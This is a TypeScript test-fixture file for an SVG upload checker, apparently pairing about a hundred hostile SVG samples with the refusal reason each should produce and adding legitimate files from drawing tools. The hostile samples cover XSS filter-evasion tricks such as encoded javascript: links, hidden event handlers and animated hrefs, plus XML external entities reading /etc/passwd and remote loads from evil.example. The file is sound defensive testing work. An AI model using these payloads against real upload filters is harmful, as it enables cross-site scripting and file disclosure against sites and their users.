/**
 * SVG files for the upload check (src/core/svgCheck.ts), shared by its unit tests, the upload route's
 * test and the end-to-end test that opens every stored file in Chromium. Hostile files try to run
 * `window.__pwned = 1` or `alert(1)`, or to load something from elsewhere; each says which reason the
 * refusal must give. Legitimate files are shaped like what drawing programs and icon sets write.
 */
import { SVG_ELEMENTS } from '../svgAllowList.ts';

export interface HostileSvg {
  name: string;
  svg: string;
  /** What the refusal must mention. */
  reason: RegExp;
}

export interface LegitimateSvg {
  name: string;
  svg: string;
}

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const XHTML = 'http://www.w3.org/1999/xhtml';
const PWN = 'window.__pwned=1';
const svg = (inner: string, attrs = '') => `<svg ${NS}${attrs ? ` ${attrs}` : ''} viewBox="0 0 100 100">${inner}</svg>`;
const clickMe = '<text x="10" y="50">Click me</text>';

const HANDCRAFTED: HostileSvg[] = [
  // script, however its namespace is spelled
  { name: 'script element', svg: svg(`<script>${PWN}</script>`), reason: /<script> element.*runs script/ },
  { name: 'script with a CDATA body', svg: svg(`<script type="text/javascript"><![CDATA[${PWN}]]></script>`), reason: /<script>/ },
  { name: 'svg:script with the svg prefix', svg: `<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>${PWN}</svg:script></svg:svg>`, reason: /<svg:script>/ },
  { name: 'script under an unusual prefix bound to SVG', svg: svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">${PWN}</x:script>`), reason: /<x:script>/ },
  { name: 'script in a group that redeclares the SVG namespace', svg: svg(`<g ${NS}><script>${PWN}</script></g>`), reason: /<script>/ },
  { name: 'script with an external href', svg: svg('<script href="https://evil.example/x.js"/>'), reason: /<script>/ },
  { name: 'HTML script by prefix', svg: svg(`<h:script xmlns:h="${XHTML}">${PWN}</h:script>`), reason: /<h:script>.*xhtml/ },
  { name: 'HTML img with onerror by default namespace', svg: svg(`<div xmlns="${XHTML}"><img src="x" onerror="${PWN}"/></div>`), reason: /<div>.*xhtml/ },
  { name: 'HTML iframe', svg: svg(`<h:iframe xmlns:h="${XHTML}" src="javascript:${PWN}"/>`), reason: /<h:iframe>.*xhtml/ },
  { name: 'MathML element', svg: svg('<math xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi></math>'), reason: /MathML/ },
  { name: 'script inside RDF metadata', svg: svg(`<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><script>${PWN}</script></rdf:RDF></metadata>`), reason: /<script>/ },
  { name: 'script inside an Inkscape element', svg: svg(`<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"><script>${PWN}</script></sodipodi:namedview>`), reason: /<script>/ },
  { name: 'script in a metadata namespace bound to SVG', svg: svg(`<inkscape:script xmlns:inkscape="http://www.w3.org/2000/svg">${PWN}</inkscape:script>`), reason: /<inkscape:script>/ },
  // event handlers and the quoting tricks that hide them from a pattern
  { name: 'onload on the root', svg: svg('', `onload="${PWN}"`), reason: /event handler attribute \(onload on <svg>/ },
  { name: '> inside an earlier attribute hides onload', svg: svg(`<rect aria-label="a>b" onload="${PWN}" width="10" height="10"/>`), reason: /event handler attribute \(onload on <rect>/ },
  { name: '> and a quote inside single quotes hide onmouseover', svg: svg(`<g aria-label='x">y' onmouseover='${PWN}'><rect width="100" height="100"/></g>`), reason: /onmouseover/ },
  { name: 'handler split over lines around =', svg: `<svg ${NS} viewBox="0 0 9 9"\nonload\n=\n"${PWN}"></svg>`, reason: /onload/ },
  { name: 'handler in capitals', svg: svg('', `ONLOAD="${PWN}"`), reason: /ONLOAD/ },
  { name: 'handler with the SVG namespace prefix', svg: svg('', `xmlns:s="http://www.w3.org/2000/svg" s:onload="${PWN}"`), reason: /s:onload/ },
  { name: 'handler after an apostrophe and a > in double quotes', svg: svg(`<text aria-label="it's '>' here" onmouseover="${PWN}" x="9" y="9">x</text>`), reason: /onmouseover on <text>/ },
  { name: 'handler on an RDF metadata element', svg: svg(`<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" onload="${PWN}"/></metadata>`), reason: /onload on <rdf:RDF>/ },
  { name: 'handler on a nested svg', svg: svg(`<svg onload="${PWN}"/>`), reason: /onload on <svg>/ },
  { name: 'onbegin on animate', svg: svg(`<rect width="9" height="9"><animate onbegin="${PWN}" attributeName="x" dur="1s"/></rect>`), reason: /onbegin/ },
  { name: 'onend on set', svg: svg(`<rect width="9" height="9"><set onend="${PWN}" attributeName="x" to="1" dur="0.1s"/></rect>`), reason: /onend/ },
  { name: 'onclick on a link', svg: svg(`<a href="#x" onclick="${PWN}">${clickMe}</a>`), reason: /onclick/ },
  { name: 'onfocusin on focusable text', svg: svg(`<text tabindex="0" onfocusin="${PWN}" x="9" y="9">x</text>`), reason: /onfocusin/ },
  // links whose scheme runs script, however it is encoded
  { name: 'javascript: link', svg: svg(`<a href="javascript:${PWN}">${clickMe}</a>`), reason: /javascript: URL/ },
  { name: 'java&#x09;script: link', svg: svg(`<a href="java&#x09;script:${PWN}">${clickMe}</a>`), reason: /javascript: URL/ },
  { name: '&#106;avascript: link', svg: svg(`<a href="&#106;avascript:${PWN}">${clickMe}</a>`), reason: /javascript: URL/ },
  { name: 'javascript&#58; link', svg: svg(`<a href="javascript&#58;${PWN}">${clickMe}</a>`), reason: /javascript: URL/ },
  { name: 'fully hex-encoded javascript: link', svg: svg(`<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${PWN}">${clickMe}</a>`), reason: /javascript: URL/ },
  { name: 'javascript: link after encoded spaces and a newline', svg: svg(`<a href="&#x20;&#x0A;&#x09;javascript:${PWN}">${clickMe}</a>`), reason: /javascript: URL/ },
  { name: 'javascript: link with a line break in the scheme', svg: svg(`<a href="jav&#x0D;&#x0A;ascript:${PWN}">${clickMe}</a>`), reason: /javascript: URL/ },
  { name: 'JaVaScRiPt: in mixed case', svg: svg(`<a href="JaVaScRiPt:${PWN}">${clickMe}</a>`), reason: /javascript: URL/ },
  { name: 'xlink:href javascript: link', svg: svg(`<a xlink:href="javascript:${PWN}">${clickMe}</a>`, XLINK), reason: /<a xlink:href>.*javascript: URL/ },
  { name: 'javascript: link opening a new window', svg: svg(`<a target="_blank" href="javascript:${PWN}">${clickMe}</a>`), reason: /javascript: URL/ },
  { name: 'XLink href under another prefix', svg: svg(`<a q:href="javascript:${PWN}" xmlns:q="http://www.w3.org/1999/xlink">${clickMe}</a>`), reason: /<a q:href>.*javascript: URL/ },
  { name: 'vbscript: link', svg: svg(`<a href="vbscript:msgbox(1)">${clickMe}</a>`), reason: /vbscript: URL/ },
  { name: 'data: HTML link', svg: svg(`<a href="data:text/html,%3Cscript%3Eparent.__pwned=1%3C/script%3E">${clickMe}</a>`), reason: /links to a data: address/ },
  { name: 'xml:base that turns a relative link into script', svg: svg(`<a xml:base="javascript:${PWN}//" href="x">${clickMe}</a>`), reason: /xml:base/ },
  // animation that rewrites a link or a handler
  { name: 'set href to javascript:', svg: svg(`<a><set attributeName="href" to="javascript:${PWN}"/>${clickMe}</a>`), reason: /animates a link or reference \(href\)/ },
  { name: 'animate xlink:href values', svg: svg(`<a xlink:href="#x"><animate attributeName="xlink:href" values="javascript:${PWN}" begin="0s" dur="9s"/>${clickMe}</a>`, XLINK), reason: /animates a link/ },
  { name: 'set href under another prefix with spaces', svg: svg(`<a><set attributeName=" q:href " to="javascript:${PWN}"/>${clickMe}</a>`), reason: /animates a link/ },
  { name: 'svg:set href by prefix', svg: `<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:a><svg:set attributeName="href" to="javascript:${PWN}"/><svg:text y="20">Click</svg:text></svg:a></svg:svg>`, reason: /animates a link/ },
  { name: 'animate href of use to another file', svg: svg('<use href="#a"><animate attributeName="href" to="https://evil.example/s.svg#a" dur="1s"/></use>'), reason: /animates a link/ },
  { name: 'set an event handler attribute', svg: svg(`<rect width="50" height="50"><set attributeName="onmouseover" to="${PWN}"/></rect>`), reason: /animates an event handler/ },
  { name: 'animate the style attribute', svg: svg('<rect width="50" height="50"><set attributeName="style" to="fill:url(https://evil.example/p#p)"/></rect>'), reason: /animates style/ },
  { name: 'animate fill to a remote paint server', svg: svg('<rect width="50" height="50"><animate attributeName="fill" to="url(https://evil.example/p.svg#p)" dur="1s"/></rect>'), reason: /attribute to on <animate>.*loads/ },
  // references to other files and data: URLs
  { name: 'use of a remote sprite', svg: svg('<use href="https://evil.example/sprite.svg#x"/>'), reason: /<use href>.*refers to another file/ },
  { name: 'use of a data: SVG', svg: svg('<use href="data:image/svg+xml,%3Csvg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'%3E%3Cimage href=\'1\' onerror=\'window.__pwned=1\'/%3E%3C/svg%3E#x"/>'), reason: /<use href>.* embeds a data: URL/ },
  { name: 'use of a sibling file by xlink:href', svg: svg('<use xlink:href="other.svg#a"/>', XLINK), reason: /<use xlink:href>.*another file/ },
  { name: 'protocol-relative image', svg: svg('<image href="//evil.example/x.png" width="9" height="9"/>'), reason: /<image href>.*another file/ },
  { name: 'remote image', svg: svg('<image href="https://evil.example/track.png" width="9" height="9"/>'), reason: /<image href>/ },
  { name: 'data: image', svg: svg('<image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>'), reason: /<image href>.* embeds a data: URL/ },
  { name: 'image with a javascript: href', svg: svg(`<image href="javascript:${PWN}"/>`), reason: /javascript: URL/ },
  { name: 'feImage from elsewhere', svg: svg('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'), reason: /<feImage href>/ },
  { name: 'gradient that inherits from another file', svg: svg('<linearGradient id="g" href="https://evil.example/g.svg#g"/>'), reason: /<linearGradient href>/ },
  { name: 'pattern from a data: URL', svg: svg('<pattern id="p" xlink:href="data:image/svg+xml,%3Csvg/%3E"/>', XLINK), reason: /<pattern xlink:href>.* embeds a data: URL/ },
  { name: 'textPath along a remote path', svg: svg('<text><textPath href="https://evil.example/p.svg#p">x</textPath></text>'), reason: /<textPath href>/ },
  { name: 'mpath along a remote path', svg: svg('<circle r="2"><animateMotion dur="1s"><mpath href="https://evil.example/p.svg#p"/></animateMotion></circle>'), reason: /<mpath href>/ },
  // foreignObject and elements off the list
  { name: 'foreignObject with HTML', svg: svg(`<foreignObject width="9" height="9"><body xmlns="${XHTML}"><img src="x" onerror="${PWN}"/></body></foreignObject>`), reason: /<foreignObject>.*web page/ },
  { name: 'foreignObject by prefix', svg: svg('<s:foreignObject xmlns:s="http://www.w3.org/2000/svg"/>'), reason: /<s:foreignObject>/ },
  { name: 'SVG-namespace iframe', svg: svg(`<iframe src="javascript:${PWN}"/>`), reason: /<iframe>.*may not use/ },
  { name: 'discard element', svg: svg('<discard begin="0s"/>'), reason: /<discard>/ },
  { name: 'SVG Tiny handler element', svg: svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${PWN}</handler>`), reason: /<handler>/ },
  { name: 'XML Events listener attributes', svg: svg('<rect xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="#h" width="9" height="9"/>'), reason: /ev:event.*xml-events/ },
  { name: 'XInclude of another document', svg: svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="https://evil.example/x.svg"/>'), reason: /XInclude/ },
  { name: 'element with no namespace', svg: svg('<g xmlns=""><script>x</script></g>'), reason: /<g>.*no namespace/ },
  // DOCTYPE, entities and processing instructions
  { name: 'DOCTYPE with an internal entity', svg: `<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;${PWN}&#60;/script&#62;">]>${svg('<text>&x;</text>')}`, reason: /DOCTYPE/ },
  { name: 'DOCTYPE with an external DTD', svg: `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${svg('')}`, reason: /DOCTYPE/ },
  { name: 'billion laughs', svg: `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>${svg('<text>&c;</text>')}`, reason: /DOCTYPE/ },
  { name: 'external entity reading a file', svg: `<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]>${svg('<text>&f;</text>')}`, reason: /DOCTYPE/ },
  { name: 'XSLT style sheet instruction', svg: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>${svg('')}`, reason: /processing instruction <\?xml-stylesheet/ },
  { name: 'CSS style sheet instruction', svg: `<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>${svg('')}`, reason: /xml-stylesheet/ },
  { name: 'processing instruction inside the drawing', svg: svg('<?php echo 1; ?>'), reason: /processing instruction <\?php/ },
  { name: 'encoding that the check would read differently', svg: `<?xml version="1.0" encoding="UTF-7"?>${svg('<text>+ADw-script+AD4-</text>')}`, reason: /encoding UTF-7/ },
  // CSS that loads or hides what it loads
  { name: 'style @import url()', svg: svg('<style>@import url(https://evil.example/x.css);</style>'), reason: /<style> element.*@import/ },
  { name: 'style @import of a string', svg: svg('<style>@import "x.css";</style>'), reason: /@import/ },
  { name: 'style @import in CDATA', svg: svg('<style><![CDATA[@import url(//evil.example/x.css);]]></style>'), reason: /@import/ },
  { name: 'style @import split by an XML comment', svg: svg('<style>@imp<!-- x -->ort url(//evil.example/x.css);</style>'), reason: /@import/ },
  { name: 'style in metadata importing a sheet', svg: svg('<metadata><style>@import url(https://evil.example/x.css);</style></metadata>'), reason: /@import/ },
  { name: 'style with markup inside', svg: svg('<style><i:x xmlns:i="http://ns.adobe.com/AdobeIllustrator/10.0/">rect{}</i:x></style>'), reason: /holds markup/ },
  { name: 'style rule with a remote url()', svg: svg('<style>rect{fill:url(https://evil.example/p.svg#g)}</style>'), reason: /loads "url\(https/ },
  { name: 'style url() in quotes with spaces', svg: svg('<style>svg{background:url(  " https://evil.example/b.png" )}</style>'), reason: /loads/ },
  { name: 'style url() hidden by a CSS escape', svg: svg('<style>rect{fill:u\\72l(https://evil.example/p.svg#g)}</style>'), reason: /CSS escape/ },
  { name: 'style image-set()', svg: svg('<style>svg{background:image-set("https://evil.example/b.png" 1x)}</style>'), reason: /image-set\(\)/ },
  { name: 'font loaded by @font-face', svg: svg('<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>'), reason: /loads/ },
  { name: 'style attribute with a remote url()', svg: svg('<rect style="fill:url(https://evil.example/a.svg#b)" width="9" height="9"/>'), reason: /attribute style on <rect>.*loads/ },
  { name: 'fill attribute with a remote url()', svg: svg('<rect fill="url(https://evil.example/a.svg#b)" width="9" height="9"/>'), reason: /attribute fill on <rect>/ },
  { name: 'filter attribute with a remote url()', svg: svg('<g filter="url(https://evil.example/f.svg#f)"/>'), reason: /attribute filter on <g>/ },
  { name: 'cursor from elsewhere', svg: svg('<rect cursor="url(https://evil.example/c.cur), auto" width="9" height="9"/>'), reason: /attribute cursor/ },
  { name: 'CSS expression()', svg: svg(`<rect style="width:expression(${PWN})"/>`), reason: /run script/ },
  // not XML, not SVG, not UTF-8
  { name: 'unclosed document', svg: `<svg ${NS}><rect width="1"/><script>${PWN}`, reason: /not well-formed XML/ },
  { name: 'undefined HTML entity', svg: svg('<text>&nbsp;</text>'), reason: /not well-formed XML/ },
  { name: 'unquoted attribute', svg: `<svg ${NS} onload=${PWN}></svg>`, reason: /not well-formed XML/ },
  { name: 'svg without its namespace', svg: `<svg><script>${PWN}</script></svg>`, reason: /not an SVG image/ },
  { name: 'HTML document named .svg', svg: `<html><body><script>${PWN}</script></body></html>`, reason: /not an SVG image/ },
];

/** An event handler on every element the check allows: each must be refused for the handler. */
const HANDLERS_ON_EVERY_ELEMENT: HostileSvg[] = [...SVG_ELEMENTS].map((element) => ({
  name: `onclick on <${element}>`,
  svg: element === 'svg' ? svg('', `onclick="${PWN}"`) : svg(`<${element} onclick="${PWN}"/>`),
  reason: new RegExp(`event handler attribute \\(onclick on <${element}>`),
}));

export const HOSTILE_SVGS: HostileSvg[] = [...HANDCRAFTED, ...HANDLERS_ON_EVERY_ELEMENT];

export const LEGITIMATE_SVGS: LegitimateSvg[] = [
  {
    name: 'plain icon',
    svg: `<svg ${NS} width="24" height="24" viewBox="0 0 24 24" fill="none" stroke="currentColor" stroke-width="2" stroke-linecap="round" stroke-linejoin="round"><circle cx="12" cy="12" r="10"/><path d="M12 8v4l3 3"/></svg>`,
  },
  {
    name: 'logo with declaration, comments, title, gradients, use and a style sheet',
    svg: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Park logo, drawn for the sample site -->
<svg ${NS} ${XLINK} version="1.1" viewBox="0 0 200 80" role="img" aria-labelledby="t d">
  <title id="t">Parks Board</title>
  <desc id="d">A green leaf beside the words Parks Board</desc>
  <defs>
    <linearGradient id="leaf" x1="0" y1="0" x2="1" y2="1">
      <stop offset="0" stop-color="#2e7d32"/>
      <stop offset="1" stop-color="#a5d6a7" stop-opacity="0.8"/>
    </linearGradient>
    <radialGradient id="glow" cx="50%" cy="50%" r="50%" gradientUnits="objectBoundingBox" xlink:href="#leaf"/>
    <path id="vein" d="M10 70 Q40 40 70 10"/>
    <style type="text/css"><![CDATA[
      .word { font: bold 24px sans-serif; fill: #1b5e20; }
      .leaf:hover { opacity: 0.9; }
      @font-face { font-family: "Board"; src: local("Lato Bold"), local("Lato-Bold"); }
      @media (prefers-color-scheme: dark) { .word { fill: #c8e6c9; } }
    ]]></style>
  </defs>
  <circle cx="40" cy="40" r="36" fill="url(#glow)"/>
  <path class="leaf" d="M10 70 C10 30 40 10 70 10 C70 40 50 70 10 70 Z" fill="url( '#leaf' )"/>
  <use href="#vein" stroke="#fff" stroke-width="2" fill="none"/>
  <use xlink:href="#vein" transform="translate(4 0)" stroke="#fff" opacity=".5" fill="none"/>
  <text class="word" x="90" y="48">Parks Board</text>
</svg>
`,
  },
  {
    name: 'Inkscape drawing with its namespaces and RDF metadata',
    svg: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg5"
   inkscape:version="1.2.2 (b0a8486541, 2022-12-01)" sodipodi:docname="badge.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff" bordercolor="#666666" borderopacity="1.0"
     inkscape:showpageshadow="2" inkscape:pageopacity="0.0" inkscape:pagecheckerboard="0"
     inkscape:deskcolor="#d1d1d1" inkscape:document-units="mm" showgrid="false" inkscape:zoom="0.7"
     inkscape:cx="396.2" inkscape:cy="561.7" inkscape:current-layer="layer1" />
  <defs id="defs2" />
  <metadata id="metadata1">
    <rdf:RDF>
      <cc:Work rdf:about="">
        <dc:format>image/svg+xml</dc:format>
        <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage" />
        <dc:title>Badge</dc:title>
        <cc:license rdf:resource="http://creativecommons.org/licenses/by/4.0/" />
      </cc:Work>
    </rdf:RDF>
  </metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <path style="fill:#ffcc00;fill-opacity:1;stroke:#000000;stroke-width:0.264583" d="M 105,40 140,110 70,110 Z"
       id="path111" sodipodi:nodetypes="cccc" inkscape:connector-curvature="0" />
    <svg:rect x="80" y="120" width="50" height="20" rx="4" style="fill:#3366cc" id="rect1" />
  </g>
</svg>
`,
  },
  {
    name: 'Illustrator export with its namespaces, switch and classes',
    svg: `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<svg version="1.1" id="Layer_1" xmlns:x="http://ns.adobe.com/Extensibility/1.0/" xmlns:i="http://ns.adobe.com/AdobeIllustrator/10.0/"
	 xmlns:graph="http://ns.adobe.com/Graphs/1.0/" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
	 x="0px" y="0px" viewBox="0 0 120 60" style="enable-background:new 0 0 120 60;" xml:space="preserve">
<style type="text/css">
	.st0{fill:#E30613;}
	.st1{fill:none;stroke:#1D1D1B;stroke-width:2;stroke-miterlimit:10;}
	.st2{font-family:'Lato-Bold';}
	.st3{font-size:14px;}
</style>
<switch>
	<g i:extraneous="self">
		<rect data-name="Background" x="2" y="2" class="st0" width="116" height="56"/>
		<line class="st1" x1="10" y1="45" x2="110" y2="45"/>
		<text transform="matrix(1 0 0 1 14 32)" class="st2 st3">Town Council</text>
	</g>
</switch>
</svg>
`,
  },
  {
    name: 'design tool export with masks and a drop shadow filter',
    svg: `<svg width="64" height="64" viewBox="0 0 64 64" fill="none" xmlns="http://www.w3.org/2000/svg">
<g filter="url(#filter0_d_1_2)">
<mask id="mask0_1_2" style="mask-type:alpha" maskUnits="userSpaceOnUse" x="4" y="2" width="56" height="56">
<circle cx="32" cy="30" r="28" fill="#C4C4C4"/>
</mask>
<g mask="url(#mask0_1_2)">
<rect x="4" y="2" width="56" height="56" fill="#0057B8"/>
<path fill-rule="evenodd" clip-rule="evenodd" d="M20 30L30 40L46 20" stroke="white" stroke-width="4"/>
</g>
</g>
<defs>
<filter id="filter0_d_1_2" x="0" y="0" width="64" height="64" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB">
<feFlood flood-opacity="0" result="BackgroundImageFix"/>
<feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0" result="hardAlpha"/>
<feOffset dy="2"/>
<feGaussianBlur stdDeviation="2"/>
<feComposite in2="hardAlpha" operator="out"/>
<feBlend mode="normal" in2="BackgroundImageFix" result="effect1_dropShadow_1_2"/>
<feBlend mode="normal" in="SourceGraphic" in2="effect1_dropShadow_1_2" result="shape"/>
</filter>
</defs>
</svg>
`,
  },
  {
    name: 'map with links to pages, a fragment, mail and a new window',
    svg: svg(
      `<a id="top" href="#top"><rect width="100" height="20" fill="#eee"/></a>
<a href="https://www.example.gov.sg/parks/" target="_blank"><text x="5" y="40">Parks</text></a>
<a xlink:href="/contact-us/"><text x="5" y="60">Contact</text></a>
<a href="mailto:parks@example.gov.sg"><text x="5" y="80">Mail us</text></a>`,
      XLINK,
    ),
  },
  {
    name: 'animated spinner',
    svg: svg(`<circle cx="50" cy="50" r="40" stroke="#0a6" stroke-width="8" fill="none" stroke-dasharray="180 80">
<animateTransform attributeName="transform" type="rotate" from="0 50 50" to="360 50 50" dur="1s" repeatCount="indefinite"/>
</circle>
<rect width="10" height="10"><animate attributeName="opacity" values="1;0.2;1" dur="2s" repeatCount="indefinite"/><set attributeName="fill" to="red" begin="click"/></rect>
<path id="route" d="M10 90 L90 90" stroke="none"/><circle r="3"><animateMotion dur="3s" repeatCount="indefinite"><mpath href="#route"/></animateMotion></circle>`),
  },
  {
    name: 'text that only looks like script',
    svg: `<?xml version="1.0"?>
<svg ${NS} viewBox="0 0 300 100">
  <!-- <script>${PWN}</script> -->
  <title>&lt;script&gt;${PWN}&lt;/script&gt;</title>
  <desc><![CDATA[<img src=x onerror="${PWN}"> javascript:${PWN}]]></desc>
  <text x="10" y="30" data-note="javascript:${PWN}" aria-label="onload=alert(1)">onload="${PWN}" &amp; &lt;svg onload=alert(1)&gt;</text>
  <path id="curve" d="M10 80 Q150 20 290 80" fill="none"/>
  <text font-family="Lato, sans-serif" font-size="12"><textPath href="#curve" startOffset="10%">along the curve <tspan fill="#c00">in red</tspan></textPath></text>
</svg>`,
  },
  {
    name: 'icon sprite of symbols with Sketch metadata',
    svg: `<svg ${NS} xmlns:sketch="http://www.bohemiancoding.com/sketch/ns" style="display:none">
  <symbol id="icon-home" viewBox="0 0 24 24" sketch:type="MSArtboardGroup"><path d="M3 12L12 3l9 9v9H3z"/></symbol>
  <symbol id="icon-mail" viewBox="0 0 24 24"><rect x="2" y="5" width="20" height="14" rx="2"/><path d="M2 7l10 7 10-7"/></symbol>
  <use href="#icon-home" width="24" height="24"/>
  <use href="#icon-mail" x="30" width="24" height="24"/>
</svg>`,
  },
  {
    name: 'chart with clip path, markers and a pattern',
    svg: svg(`<defs>
  <clipPath id="plot"><rect width="90" height="90"/></clipPath>
  <marker id="dot" viewBox="0 0 10 10" refX="5" refY="5" markerWidth="5" markerHeight="5" orient="auto-start-reverse"><circle cx="5" cy="5" r="5" fill="#333"/></marker>
  <pattern id="hatch" width="4" height="4" patternUnits="userSpaceOnUse" patternTransform="rotate(45)"><line x1="0" y1="0" x2="0" y2="4" stroke="#999"/></pattern>
</defs>
<g clip-path="url(#plot)"><rect width="100" height="40" fill="url(#hatch)"/>
<polyline points="0,80 30,50 60,60 90,20" fill="none" stroke="#06c" marker-start="url(#dot)" marker-mid="url(#dot)" marker-end="url(#dot)"/>
<polygon points="10,10 20,10 15,20" fill="#c60"/><ellipse cx="70" cy="70" rx="10" ry="5"/></g>`),
  },
  {
    name: 'bilingual title with a byte order mark',
    svg: `\ufeff<svg ${NS} viewBox="0 0 100 40" xml:lang="en"><title>公园 · பூங்கா · Taman</title><text x="5" y="25" xml:space="preserve">公园  பூங்கா</text></svg>`,
  },
];
